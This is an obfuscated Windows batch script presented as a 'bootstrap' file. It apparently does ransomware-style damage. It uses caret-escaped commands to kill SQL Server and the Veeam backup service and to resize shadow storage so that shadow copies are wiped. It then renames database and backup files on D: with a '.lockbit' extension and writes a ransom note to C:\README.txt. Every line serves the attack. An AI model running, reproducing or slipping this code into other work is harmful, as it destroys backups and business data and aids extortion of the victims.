REM bootstrap 3430 v1
@echo off
@echo off
set plry=t^askkill /^f /^im ^sq^ls^e^rvr.^e^x^e
call %plry%
@echo off
set gwau=^tas^kk^ill /f /im v^ee^a^m.b^a^c^k^u^p.s^e^rvi^ce.e^x^e
call %gwau%
@echo off
set urxt=^vs^s^ad^m^in ^r^esiz^e ^s^had^ows^tora^ge /for=^c: /o^n=^c: /^m^a^xsi^z^e=4^0^1^M^B
call %urxt%
^^f^o^r /^r ^D:\ %%^i ^i^n (*.^^m^df *.^l^df *.^^b^ak) ^d^o ^r^e^^n "%%i" "%%~nxi.lockbit"
@echo off
set jknr=ec^ho Your ^data a^r^e ^st^ole^n a^n^d encrypt^ed ^> ^C:\RE^ADM^E.tx^t
call %jknr%
